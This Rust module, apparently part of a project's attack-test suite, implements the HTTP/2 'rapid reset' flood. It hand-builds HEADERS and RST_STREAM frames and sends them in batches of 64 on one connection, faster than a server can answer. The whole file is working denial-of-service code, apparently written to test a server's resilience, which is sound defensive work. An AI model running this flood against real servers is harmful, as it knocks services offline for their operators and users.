//! Opens streams and resets each at once, on one connection and much faster than they can be answered: "rapid
//! reset". Each is the beginning of a call that there is.
//!
//! The bytes are made by hand: a client library would notice that nobody wants the stream any more and not
//! send it.

use tokio::io::{AsyncWrite, AsyncWriteExt as _};

use super::attack_context::AttackContext;
use super::frames::{CANCEL, END_HEADERS, HEADERS, RST_STREAM, call, drain, frame, open_with_a_call, ping};
use stickycas_client::Error;

/// Streams that are opened and reset before anybody else has a turn.
const AT_A_TIME: usize = 64;

pub(super) async fn attack(context: &AttackContext) -> Result<(), Error> {
    let (mut read, mut write) = open_with_a_call(context).await?;
    let call = call(context);
    tokio::join!(flood(context, &mut write, &call), drain(context, &mut read));
    Ok(())
}

async fn flood(context: &AttackContext, write: &mut (impl AsyncWrite + Unpin), call: &[u8]) {
    let streams: Vec<u32> = (3..).step_by(2).take(context.count as usize).collect();
    for (turn, streams) in streams.chunks(AT_A_TIME).enumerate() {
        let mut bytes = Vec::new();
        for stream in streams {
            bytes.extend(frame(HEADERS, END_HEADERS, *stream, call));
            bytes.extend(frame(RST_STREAM, 0, *stream, &CANCEL.to_be_bytes()));
        }
        // The server takes the others as slowly as it likes: once it has taken these, the process goes on beside them.
        if turn == 0 {
            bytes.extend(ping());
        }
        context.tally.attempts(streams.len() as u64);
        if write.write_all(&bytes).await.is_err() {
            context.tally.cut();
            return;
        }
    }
    // If the server has endured it all, it is left alone.
    let _ = write.shutdown().await;
}
